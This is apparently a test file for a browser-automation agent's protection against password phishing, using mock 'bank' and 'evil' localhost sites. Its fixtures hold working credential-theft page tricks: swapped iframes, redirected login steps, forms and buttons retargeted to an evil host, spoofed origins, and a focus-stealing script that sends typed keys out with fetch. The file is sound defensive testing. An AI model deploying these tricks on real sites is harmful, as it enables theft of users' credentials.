import { describe, expect, test } from 'vitest';
import type { Cue } from '../play.js';
import { both, form, onceAsked, password, secretFor, title, user, createTraps } from './trapWorld.js';
import type { Pages } from './trapWorld.js';

const traps = createTraps();

/** Answers once the page has changed behind the question. */
const afterChange = (answer: string) => async (): Promise<string> => {
  traps.world.ask();
  await traps.world.whenDone();
  return answer;
};

/** A page of the other site around the bank's form. */
const framed = (more = ''): string =>
  `${title}<iframe id="f" src="{bank}/login" width="600" height="300"></iframe>${more}`;
const swap = `f.src = '/clone'; f.onload = () => fetch('/done');`;

/** A form that sends what is typed to the other site, and says to be of the bank. */
const lyingForm = `<script>window.origin = '{bank}'</script>${title}${form().replaceAll("fetch('", "fetch('{evil}")}`;
const inAttribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

interface Trap {
  readonly what: string;
  readonly pages: Pages;
  readonly task: string;
  readonly cue?: Cue;
  /** The code it must stop with, and words that say why. */
  readonly stops: readonly [code: string, words: RegExp];
  /** What the other site may have been told all the same. */
  readonly mayKnow?: 'user';
}

const cases: readonly Trap[] = [
  {
    what: 'a frame that is swapped while the person is asked for the bank',
    pages: {
      bank: { '/login': title + form() },
      evil: { '/': framed(onceAsked(swap)), '/clone': title + form() },
    },
    task: 'Open {evil}/ and log in',
    cue: { answers: [afterChange(both)] },
    stops: ['SECRET_REFUSED', /was for bank\.localhost:\d+, but the field is now at evil\.localhost/u],
  },
  {
    what: 'a frame that is swapped as soon as it gets the focus',
    pages: {
      bank: { '/login': title + form() },
      evil: {
        '/': framed(`<script>const look = setInterval(() => {
          if (document.activeElement?.id !== 'f') return;
          clearInterval(look);
          f.src = '/clone';
        }, 1)</script>`),
        '/clone': title + form(),
      },
    },
    task: 'Open {evil}/ and log in',
    cue: { answers: [both] },
    stops: ['(LOGIN_REFUSED|SECRET_REFUSED|FIELD_CHANGED|LOGIN_FAILED|ELEMENT_NOT_FOUND)', /./u],
  },
  {
    what: 'the second step of a log-in that redirects to another host, after a question',
    pages: {
      bank: {
        '/login': `${title}<form action="/next"><label>User name <input name="u"></label><button>Next</button></form>`,
        '/next': '->{evil}/step',
      },
      evil: {
        '/step': `${title}<form><label>Password <input type="password" name="p"></label><button>Log in</button></form>`,
      },
    },
    task: 'Open {bank}/login and log in',
    cue: { answers: [both] },
    stops: [
      'SECRET_REFUSED',
      /The password was for bank\.localhost:\d+, but the field is now at evil\.localhost/u,
    ],
  },
  {
    what: 'the same with the password in the task',
    pages: {
      bank: {
        '/login': `${title}<form action="/next"><label>User name <input name="u"></label><button>Next</button></form>`,
        '/next': '->{evil}/step',
      },
      evil: {
        '/step': `${title}<form><label>Password <input type="password" name="p"></label><button>Log in</button></form>`,
      },
    },
    task: `Open {bank}/login and log in as ${user} with password ${password}`,
    stops: ['SECRET_REFUSED', /now at evil\.localhost/u],
  },
  {
    what: 'the same with a secret of the bank',
    pages: {
      bank: {
        '/login': `${title}<form action="/next"><label>User name <input name="u"></label><button>Next</button></form>`,
        '/next': '->{evil}/step',
      },
      evil: {
        '/step': `${title}<form><label>Password <input type="password" name="p"></label><button>Log in</button></form>`,
      },
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost') },
    stops: ['SECRET_REFUSED', /now at evil\.localhost/u],
  },
  {
    what: 'a user name field of the page beside a password field of the bank',
    pages: {
      bank: {
        '/login': `<form method="post" action="/in"><label>Password <input type="password" name="p"></label><button>Log in</button></form>`,
        '/in': '<h1>Welcome</h1>',
      },
      evil: {
        '/': `${title}<form><label>User name <input name="u"></label></form>${form('/x').replace(/<form.*<\/form>/u, '')}${framed().slice(title.length)}`,
      },
    },
    task: 'Open {evil}/ and log in',
    cue: { answers: [both] },
    stops: ['', /./u],
  },
  {
    what: 'a form that sends to another host, when nobody agrees to it by name',
    pages: { bank: { '/login': title + form('{evil}/collect') }, evil: {} },
    task: 'Open {bank}/login and log in',
    cue: { answers: [both] },
    stops: ['LOGIN_REFUSED', /its form sends to evil\.localhost/u],
  },
  {
    what: 'a button that sends to another host',
    pages: {
      bank: {
        '/login': title + form('/in', '<input type="submit" formaction="{evil}/collect" value="Go on">'),
      },
      evil: {},
    },
    task: `Open {bank}/login and log in as ${user} with password ${password}`,
    cue: { answers: ['what?'] },
    stops: ['LOGIN_REFUSED', /its form sends to evil\.localhost/u],
  },
  {
    what: 'a button that sends to another host, in a shadow root',
    pages: {
      bank: {
        '/login': `${title}<div id="host"></div><template id="t">${form('/in', '<button formaction="{evil}/collect">Log in</button>')}</template><script>host.attachShadow({ mode: 'open' }).append(t.content);</script>`,
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost'), answers: ['what?'] },
    stops: ['LOGIN_REFUSED', /its form sends to evil\.localhost/u],
  },
  {
    what: 'a button that sends to another host, where a name hides how buttons are found',
    pages: {
      bank: {
        '/login': `${title}<img name="querySelectorAll" alt="" hidden>${form('/in', '<button formaction="{evil}/collect">Log in</button>')}`,
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost'), answers: ['what?'] },
    stops: ['LOGIN_REFUSED', /its form sends to evil\.localhost/u],
  },
  {
    what: 'a field for the name that belongs to a form of its own, which sends to another host',
    pages: {
      bank: {
        '/login': `${title}<form id="own" method="post" action="{evil}/collect"></form><form method="post" action="/in"><label>User name <input name="u" form="own"></label><label>Password <input type="password" name="p"></label><button form="own">Log in</button></form>`,
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost'), answers: ['what?'] },
    stops: ['LOGIN_REFUSED', /its form sends to evil\.localhost/u],
  },
  {
    what: 'a form of the name that changes where it sends once the password is there',
    pages: {
      bank: {
        '/login': `${title}<form id="own" method="post" action="/name"></form><form method="post" action="/in"><label>User name <input name="u" form="own"></label><label>Password <input type="password" name="p"></label><button form="own">Log in</button></form><script>document.querySelector('[name=p]').oninput = () => { own.action = '{evil}/collect'; };</script>`,
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost') },
    stops: ['FIELD_CHANGED', /changed its form at bank\.localhost/u],
  },
  {
    what: 'a form whose fields hide where it sends',
    pages: {
      bank: {
        '/login':
          title + form('{evil}/collect', '<input name="action" hidden><input name="elements" hidden>'),
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { answers: [both] },
    stops: ['LOGIN_REFUSED', /its form sends to evil\.localhost/u],
  },
  {
    what: 'a form that changes where it sends when its field gets the focus',
    pages: {
      bank: {
        '/login': `${title}${form()}<script>document.querySelector('[name=p]').onfocus = () => { document.forms[0].action = '{evil}/collect'; };</script>`,
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost') },
    stops: ['FIELD_CHANGED', /changed its form at bank\.localhost/u],
  },
  {
    what: 'a form that changes where it sends once it is filled',
    pages: {
      bank: {
        '/login': `${title}${form()}<script>document.querySelector('[name=p]').oninput = () => { document.forms[0].action = '{evil}/collect'; };</script>`,
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost') },
    stops: ['FIELD_CHANGED', /changed its form at bank\.localhost/u],
  },
  {
    what: 'a bank that leads to another host, with the password in the task',
    pages: { bank: { '/login': '->{evil}/login' }, evil: { '/login': title + form() } },
    task: `Open {bank}/login and log in as ${user} with password ${password}`,
    cue: { answers: [both] },
    stops: ['LOGIN_REFUSED', /was not typed at evil\.localhost/u],
  },
  {
    what: 'the same with a field that is filled by its name',
    pages: { bank: { '/login': '->{evil}/login' }, evil: { '/login': title + form() } },
    task: `Open {bank}/login and fill Password with ${password}`,
    cue: { answers: [both] },
    stops: ['LOGIN_REFUSED', /was not typed at evil\.localhost/u],
  },
  {
    what: 'a log-in that asks again at another host',
    pages: {
      bank: { '/login': title + form(), '/in': '->{evil}/again' },
      evil: { '/again': title + form() },
    },
    task: 'Open {bank}/login and log in',
    cue: { answers: [both] },
    stops: [
      'SECRET_REFUSED',
      /The log-in was for bank\.localhost:\d+, but the field is now at evil\.localhost/u,
    ],
  },
  {
    what: 'a page that takes the place of the one whose field was asked about',
    pages: {
      bank: { '/login': `${title}${form()}${onceAsked(`location = '{evil}/clone';`)}` },
      evil: { '/clone': `${title}${form()}<script>fetch('/done')</script>` },
    },
    task: 'Open {bank}/login and fill in my password',
    cue: { answers: [afterChange(password)] },
    stops: ['SECRET_REFUSED', /What you answered was for bank\.localhost/u],
  },
  {
    what: 'a frame without an address of its own',
    pages: {
      bank: {},
      evil: {
        '/': `${title}<iframe src="data:text/html,${encodeURIComponent(title + form('http://x.localhost/'))}"></iframe>`,
      },
    },
    task: 'Open {evil}/ and log in',
    cue: { answers: [both], secrets: secretFor('all') },
    stops: ['SECRET_REFUSED', /a frame without an address of its own/u],
  },
  {
    what: "a sandboxed frame of the bank, as one around a stranger's letter, that lies about its origin",
    pages: {
      bank: {
        '/login': `${title}<iframe sandbox="allow-scripts allow-forms" width="600" height="300" srcdoc="${inAttribute(lyingForm)}"></iframe>`,
      },
      evil: {},
    },
    task: 'Open {bank}/login and log in',
    cue: { secrets: secretFor('bank.localhost') },
    stops: ['SECRET_REFUSED', /a frame without an address of its own or in a sandbox/u],
  },
  {
    what: 'a page of the bank in a sandbox, filled by the name of its field',
    pages: {
      bank: {
        '/login': `${title}<iframe sandbox="allow-scripts allow-forms" width="600" height="300" src="/letter"></iframe>`,
        '/letter': lyingForm,
      },
      evil: {},
    },
    task: 'Open {bank}/login and fill in my password',
    cue: { secrets: secretFor('bank.localhost') },
    stops: ['SECRET_REFUSED', /a frame without an address of its own or in a sandbox/u],
  },
  {
    what: 'a page that lies about its address',
    pages: {
      bank: {},
      evil: {
        '/': `${title}${form()}<script>
          Object.defineProperty(Node.prototype, 'ownerDocument', { get: () => ({ documentElement: document.documentElement, defaultView: { location: { origin: '{bank}' } } }) });
          Object.defineProperty(Document.prototype, 'URL', { get: () => '{bank}/' });
          window.origin = '{bank}';</script>`,
      },
    },
    task: 'Open {evil}/ and log in',
    cue: { secrets: secretFor('bank.localhost'), answers: ['no'] },
    stops: ['LOGIN_DECLINED', /evil\.localhost:\d+ asks for a log-in/u],
  },
  {
    what: 'a robot check that moves to another host while it is answered',
    pages: {
      bank: {
        '/login': `<title>Are you a robot?</title><h1>Are you a robot?</h1><form><label>Type the CAPTCHA <input name="c"></label><button>Verify</button></form>${onceAsked(`location = '{evil}/clone';`)}`,
      },
      evil: {
        '/clone': `<title>Are you a robot?</title><h1>Are you a robot?</h1>${form().replace('User name', 'Type the CAPTCHA')}<script>fetch('/done')</script>`,
      },
    },
    task: 'Open {bank}/login and read the text',
    cue: { answers: [afterChange(password)] },
    stops: ['SECRET_REFUSED', /Your answer was for bank\.localhost/u],
  },
];

describe('a trap for a password', () => {
  test.each(cases)(
    '$what: nothing is typed at the other host',
    async ({ pages, task, cue, stops: [code, words] }) => {
      const told = await traps.tryTask(pages, task, cue);

      expect(told.code ?? '', told.message).toMatch(new RegExp(`^${code}$`, 'u'));
      expect(told.message).toMatch(words);
      // What was typed would be reported within the next moment.
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(traps.world.sentTo('evil')).not.toContain(password);
      expect(traps.world.sentTo('evil').replaceAll(/\/step\?u=\S+ \S+/gu, '')).not.toContain(user);
      expect(told.everything).not.toContain(password);
    },
  );

  test('a page that takes the focus again and again gets no key of a password in a frame', async () => {
    const steal = `<input id="own" aria-label="Own"><script>
      setInterval(() => { own.focus(); if (own.value) fetch('/typed?' + encodeURIComponent(own.value)); }, 1);</script>`;
    const told = await traps.tryTask(
      { bank: { '/login': title + form(), '/in': '<h1>Welcome</h1>' }, evil: { '/': framed(steal) } },
      'Open {evil}/ and log in',
      { answers: [both] },
    );
    await new Promise((resolve) => setTimeout(resolve, 100));

    expect(told.questions[0]).toMatch(
      /^bank\.localhost:\d+ \(shown inside a page of evil\.localhost:\d+\) asks/u,
    );
    expect(traps.world.sentTo('evil')).not.toMatch(/typed|lovelace|ada-/u);
  });
});
